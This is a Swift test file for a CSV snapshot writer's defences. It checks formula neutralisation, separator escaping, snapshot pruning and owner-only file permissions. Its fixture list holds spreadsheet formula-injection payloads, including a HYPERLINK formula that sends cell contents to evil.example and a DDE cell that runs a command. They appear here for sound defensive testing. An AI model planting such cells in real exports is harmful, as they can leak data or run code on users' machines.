import ConnectorDomain
import ConnectorEngine
import ConnectorStore
import ConnectorTestSupport
import Foundation
import NeuronsSinks
import SQLiteStore
import Testing

#if canImport(Glibc)
    import Glibc
#endif

@Suite("CSV snapshots are safe to open and private (SPEC §9, §12)", .timeLimit(.minutes(3)))
struct CSVSafetyTests {
    static let hostileCells = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
        "\tleading tab", "\rleading return", "\r\nleading line break", "plain", "a=b", " =spaced", "",
        "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(A1)", "  \u{FF1D}1", "\u{3000}=1", "\u{A0}@x", "\n=1",
        "\u{FE66}1", "x\u{FF1D}1", " plain",
    ]

    func directory() -> URL {
        FileManager.default.temporaryDirectory.appendingPathComponent("okta-csv-safe-\(UUID().uuidString)")
    }

    func write(_ writer: CSVSnapshotWriter, cells: [String], at time: Date = Date()) async throws -> String {
        let records = cells.enumerated().map { index, cell in
            (key: "00u\(index)", attributesJSON: #"{"User.Title":\#(CanonicalJSON.string(.string(cell)))}"#)
        }
        return try await writer.write(at: time) {
            AsyncThrowingStream { continuation in
                continuation.yield(records)
                continuation.finish()
            }
        }
    }

    /// Reads the file back with Python's `csv` module, a parser independent of ours.
    func readBack(_ path: String) async throws -> [[String: String]] {
        let script = """
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f:
                print(json.dumps(list(csv.DictReader(f)), ensure_ascii=False))
            """
        let (status, output) = try await TestProcess.run(
            "/usr/bin/env", arguments: ["python3", "-c", script, path], log: path + ".parsed.json", timeout: 60)
        #expect(status == 0)
        return try JSONDecoder().decode([[String: String]].self, from: Data(output.utf8))
    }

    @Test func cellsThatStartLikeAFormulaReadBackAsTextWithALeadingQuote() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let writer = CSVSnapshotWriter(directory: folder.path, delimiter: ",", keep: 2, prefix: "org")
        let rows = try await readBack(try await write(writer, cells: Self.hostileCells))
        let titles = rows.map { $0["User.Title"] ?? "<missing>" }
        #expect(
            titles == [
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A2)",
                "'\tleading tab", "'\rleading return", "'\r\nleading line break", "plain", "a=b", "' =spaced", "",
                "'\u{FF1D}1+1", "'\u{FF0B}1", "'\u{FF0D}1", "'\u{FF20}SUM(A1)", "'  \u{FF1D}1", "'\u{3000}=1",
                "'\u{A0}@x",
                "'\n=1", "'\u{FE66}1", "x\u{FF1D}1", " plain",
            ])
        #expect(rows.map { $0["Application.Okta.UserId"] } == Self.hostileCells.indices.map { "00u\($0)" })
    }

    /// Found by the `csv_cell` fuzz target: a combining mark right after `;`, `,` or `"` makes one
    /// Character of both, which the writer once took for text while a reader of bytes splits there.
    @Test func separatorsFollowedByACombiningMarkAreStillQuotedAndEscaped() {
        let writer = CSVSnapshotWriter(directory: "/unused", delimiter: ",", keep: 1, prefix: "org")
        #expect(writer.field("a,\u{301}b") == "\"a,\u{301}b\"")
        #expect(writer.field("say \"\u{301}") == "\"say \"\"\u{301}\"")
        #expect(writer.field("one\r\ntwo") == "\"one\r\ntwo\"")
        let items = ["Γιώργος", "\u{64E}starts with a mark", "", ";\u{301}", "\\\u{301}"]
        let cell = items.map(CSVSnapshotWriter.escapeListItem).joined(separator: ";")
        #expect(CSVSnapshotWriter.listItems(cell) == items)
    }

    @Test func neutralisingCanBeTurnedOff() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let writer = CSVSnapshotWriter(
            directory: folder.path, delimiter: ",", keep: 2, prefix: "org", neutralizeFormulas: false)
        let rows = try await readBack(try await write(writer, cells: Self.hostileCells))
        #expect(rows.map { $0["User.Title"] ?? "<missing>" } == Self.hostileCells)
    }

    @Test func pruningKeepsOtherConnectorsAndOtherFiles() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        // Connectors "org" and "org-eu" share the folder; the operator keeps notes there too.
        let foreign = [
            "org-eu-20260101T000000.000Z.csv", "org-notes.csv", "org-20260101T000000.000Z.csv.bak",
            "org-2026.csv", "other-20260101T000000.000Z.csv",
        ]
        for name in foreign {
            #expect(FileManager.default.createFile(atPath: folder.appendingPathComponent(name).path, contents: nil))
        }
        let writer = CSVSnapshotWriter(directory: folder.path, delimiter: ",", keep: 1, prefix: "org")
        #expect(writer.isOwnSnapshot("org-20260101T000000.000Z.csv"))
        #expect(!writer.isOwnSnapshot("org-eu-20260101T000000.000Z.csv"))
        for second in 0..<3 {
            _ = try await write(writer, cells: ["x"], at: Date(timeIntervalSince1970: 1_780_000_000 + Double(second)))
        }
        let files = Set(try FileManager.default.contentsOfDirectory(atPath: folder.path))
        #expect(files == Set(foreign + ["org-20260528T202642.000Z.csv"]))
    }

    @Test func snapshotsAndTheirTemporaryFilesAreOwnerOnly() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let writer = CSVSnapshotWriter(directory: folder.path, delimiter: ",", keep: 2, prefix: "org")
        // A stale temporary file left world-readable by a crash is replaced, not reused.
        let stamp = "20260528T202640.000Z"
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let stale = folder.appendingPathComponent(".org-\(stamp).csv.partial").path
        #expect(
            FileManager.default.createFile(
                atPath: stale, contents: Data("old".utf8), attributes: [.posixPermissions: 0o644]))
        let file = try await write(writer, cells: ["x"], at: Date(timeIntervalSince1970: 1_780_000_000))
        #expect(PrivateFileAccess.permissions(of: file) == 0o600)
        #expect(!FileManager.default.fileExists(atPath: stale))
    }

    @Test func ndjsonOutputAndTheDatabaseAreOwnerOnly() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        // An output made world-readable by an older version is narrowed on start.
        let existing = folder.appendingPathComponent("old.ndjson").path
        #expect(FileManager.default.createFile(atPath: existing, contents: nil, attributes: [.posixPermissions: 0o644]))
        _ = try NDJSONSink(path: existing)
        #expect(PrivateFileAccess.permissions(of: existing) == 0o600)
        let fresh = folder.appendingPathComponent("out/users.ndjson").path
        let sink = try NDJSONSink(path: fresh)
        try await sink.deliver(
            SinkBatch(
                connector: "c", batchId: "b",
                records: [SinkRecord(operation: "upsert", key: "00u1", version: 1, attributesJSON: "{}")]))
        #expect(PrivateFileAccess.permissions(of: fresh) == 0o600)

        let database = folder.appendingPathComponent("state.db").path
        let store = try SQLiteStateStore(path: database)
        _ = try await store.commit(UserWriteBatch(connector: "c", changes: [], at: Timestamp(Date())))
        for file in [database, database + "-wal", database + "-shm"] {
            #expect(FileManager.default.fileExists(atPath: file), "\(file)")
            #expect(PrivateFileAccess.permissions(of: file) == 0o600, "\(file)")
        }
    }

    @Test func aConfiguredGroupGetsReadAccess() async throws {
        let folder = directory()
        defer { try? FileManager.default.removeItem(at: folder) }
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        // The current user's own group: always allowed without privileges.
        let groupName = String(cString: getgrgid(getegid())!.pointee.gr_name)
        let access = try #require(PrivateFileAccess.ownerAndGroup(groupName))
        #expect(PrivateFileAccess.ownerAndGroup("no-such-group-\(UUID().uuidString.prefix(8))") == nil)
        let writer = CSVSnapshotWriter(directory: folder.path, delimiter: ",", keep: 2, prefix: "org", access: access)
        let file = try await write(writer, cells: ["x"])
        #expect(PrivateFileAccess.permissions(of: file) == 0o640)
        let database = folder.appendingPathComponent("state.db").path
        _ = try SQLiteStateStore(path: database, access: access)
        #expect(PrivateFileAccess.permissions(of: database) == 0o640)
    }
}
